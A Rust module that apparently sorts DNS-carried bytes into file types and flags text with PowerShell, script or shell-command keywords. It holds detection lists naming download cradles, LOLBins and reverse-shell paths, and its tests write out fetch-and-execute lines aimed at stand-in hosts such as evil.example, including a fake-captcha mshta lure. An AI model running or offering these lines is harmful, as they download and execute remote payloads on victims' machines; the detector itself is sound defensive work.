//! What bytes are, by their beginning or by words that a text of that kind has.

/// Bytes that people can read: UTF-8, or UTF-16 as PowerShell takes it.
pub fn as_text(bytes: &[u8]) -> Option<String> {
    // A string of DNS ends after 255 bytes, in the middle of a character if need be.
    let whole = match std::str::from_utf8(bytes) {
        Ok(text) => Some(text),
        Err(error) if error.error_len().is_none() => bytes.get(..error.valid_up_to()).and_then(|bytes| std::str::from_utf8(bytes).ok()),
        Err(_) => None,
    };
    let text = match whole {
        Some(text) if !bytes.contains(&0) => text.to_owned(),
        _ => {
            let (pairs, _) = bytes.as_chunks::<2>();
            let latin = pairs.iter().filter(|pair| pair[1] == 0).count();
            if pairs.len() < 4 || latin * 10 < pairs.len() * 8 {
                return None;
            }
            String::from_utf16(&pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect::<Vec<_>>()).ok()?
        }
    };
    let (all, odd) = text.chars().fold((0, 0), |(all, odd), c| (all + 1, odd + usize::from(c.is_control() && !c.is_whitespace())));
    (all >= 4 && odd * 20 <= all).then_some(text)
}

/// Words that PowerShell has and prose has not, in lower case.
const POWERSHELL: [&str; 28] = [
    "powershell",
    "pwsh",
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-command",
    "invoke-item",
    "new-object",
    "frombase64string",
    "tobase64string",
    "downloadstring",
    "iex(",
    "iex (",
    "iex $",
    "|iex",
    "| iex",
    "irm http",
    "iwr http",
    "iwr -",
    "$env:",
    "$global:",
    "-encodedcommand",
    "start-sleep",
    "out-string",
    "[system.",
    "foreach-object",
    "-executionpolicy",
    "-exec bypass",
];
const SCRIPT: [&str; 10] =
    ["<script", "function(", "eval(", "wscript", "createobject(", "import os;", "import os,", "import socket", "require('", "require(\""];
const COMMAND: [&str; 36] = [
    "cmd.exe",
    "cmd /c",
    "/bin/",
    "/dev/tcp/",
    "/etc/",
    "curl -",
    "curl http",
    "curl $",
    "wget -",
    "wget http",
    "wget $",
    "chmod +",
    "chmod 7",
    "rundll32",
    "regsvr32",
    "certutil",
    "mshta",
    "bitsadmin",
    "schtasks",
    "cscript",
    "msiexec",
    "wmic ",
    "whoami",
    "ipconfig",
    "net localgroup",
    "nslookup -",
    "uname -",
    "|bash",
    "| bash",
    "|sh",
    "| sh",
    "python -c",
    "python3 -c",
    "perl -e",
    "php -r",
    "${jndi:",
];

/// What a text makes a computer do: `PowerShell`, `script`, `command`; nothing where it has no such word.
pub fn acts(text: &str) -> Option<&'static str> {
    let low = text.to_ascii_lowercase();
    // A word stands alone: `firm`, `| show` and the name of a host have none, nor has a folder in the middle of an address.
    let alone = |word: &str, at: usize| {
        let (before, behind) = (low.get(..at).unwrap_or_default(), low.get(at + word.len()..).unwrap_or_default());
        let joined_before = before.chars().next_back().is_some_and(|c| match word.chars().next() {
            Some('/') => c.is_alphanumeric() || "./-_".contains(c),
            Some(first) if first.is_ascii_alphanumeric() => c.is_alphanumeric() || "./-_@".contains(c),
            _ => false,
        });
        let ends_as_word = word.ends_with(|c: char| c.is_ascii_alphanumeric()) && !word.ends_with("http");
        let joined_behind = behind.chars().next().is_some_and(|c| match c {
            '.' => !["exe", "shell", " "].iter().any(|rest| behind.get(1..).unwrap_or_default().starts_with(rest)) && behind.len() > 1,
            _ => c.is_alphanumeric() || "-_@".contains(c),
        });
        !(joined_before || ends_as_word && joined_behind)
    };
    let has = |words: &[&str]| words.iter().any(|word| low.match_indices(word).any(|(at, _)| alone(word, at)));
    [("PowerShell", &POWERSHELL[..]), ("script", &SCRIPT), ("command", &COMMAND)]
        .into_iter()
        .find(|(_, words)| has(words))
        .map(|(name, _)| name)
}

/// What a text is.
pub fn of_text(text: &str) -> &'static str {
    if text.starts_with("SSH-") {
        "SSH banner"
    } else if text.starts_with("#!") {
        "script"
    } else if text.starts_with(['{', '[']) && serde_json::from_str::<serde_json::Value>(text).is_ok() {
        "JSON"
    } else {
        acts(text).unwrap_or("text")
    }
}

/// Kinds of files by signatures of three bytes or more, and programs: a token has any two bytes by chance.
pub fn of_bytes(bytes: &[u8]) -> Option<&'static str> {
    const KINDS: [&str; 13] = ["pdf", "png", "jpg", "gif", "7z", "rar", "xz", "zst", "cab", "wasm", "sqlite", "rtf", "msi"];
    let by_signature = || infer::get(bytes).map(|kind| kind.extension()).filter(|kind| KINDS.contains(kind));
    match bytes {
        [b'M', b'Z', b'P' | 0x90, 0, ..] => Some("PE"),
        [b'M', b'Z', ..] if bytes.len() >= 64 => Some("PE"),
        [0x7f, b'E', b'L', b'F', ..] => Some("ELF"),
        [0x1f, 0x8b, 8, ..] => Some("gzip"),
        [b'P', b'K', 3, 4, ..] => Some("zip"),
        [b'S', b'S', b'H', b'-', ..] => Some("SSH banner"),
        _ => by_signature().or_else(|| with_words(bytes)),
    }
}

/// What of bytes people can read, with spaces for the rest.
pub fn readable(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| if matches!(byte, b' '..=b'~') { char::from(*byte) } else { ' ' }).collect()
}

/// How names of bytes begin that are no text and hold words of one.
pub const WITH_WORDS: &str = "bytes with ";

/// Bytes that are no text and hold words of one: so an escape or a zero byte among them hides nothing.
fn with_words(bytes: &[u8]) -> Option<&'static str> {
    const LOOKED_AT: usize = 4 << 10; // of a text, a search asks for each of some sixteen decodings
    match acts(&readable(bytes.get(..LOOKED_AT).unwrap_or(bytes)))? {
        "PowerShell" => Some("bytes with PowerShell"),
        "script" => Some("bytes with a script"),
        _ => Some("bytes with a command"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_stand_alone() {
        for (text, expected) in [
            ("curl -fsSL http://203.0.113.5/i.sh | bash", Some("command")),
            ("mshta evil.example/x.mp3 # I am not a robot", Some("command")),
            ("irm evil.example/a|iex", Some("PowerShell")),
            ("CreateObject(\"WScript.Shell\").Run \"calc\"", Some("script")),
            ("our firm is here | show more", None),
            ("v=spf1 include:curly.example -all", None),
            ("we mandate reimport osmosis", None),
            ("root:x:0:0:root:/root:/bin/bash", Some("command")),
            ("C:\\Windows\\System32\\cmd.exe /c dir", Some("command")),
            ("certutil.exe -urlcache", Some("command")),
            // Found in review: names of hosts, paths of addresses and prose were commands.
            ("v=spf1 include:powershell.example -all", None),
            ("v=BIMI1; l=https://example.com/bin/logo.svg; a=", None),
            ("dnslink=/ipns/example.com/etc/x", None),
            ("heritage=external-dns,external-dns/owner=a,external-dns/resource=service/cscript", None),
            ("Blocked - see https://lists.example.org/etc/lookup?192.0.2.4", None),
            ("We curl hair", None),
            ("irm ok", None),
            ("my require(s) docs", None),
            ("invoke-billing=123", None),
        ] {
            assert_eq!(acts(text), expected, "{text}");
        }
    }

    #[test]
    fn headers_of_programs_are_short() {
        assert_eq!(of_bytes(b"MZ\x90\0\x03\0\0\0"), Some("PE"));
        assert_eq!(of_bytes(b"\x7fELF\x02"), Some("ELF"));
        assert_eq!(of_bytes(b"MZabcdefgh"), None);
        assert_eq!(of_bytes(b"\0\x01\x02/bin/sh -i\0"), Some("bytes with a command"));
    }
}
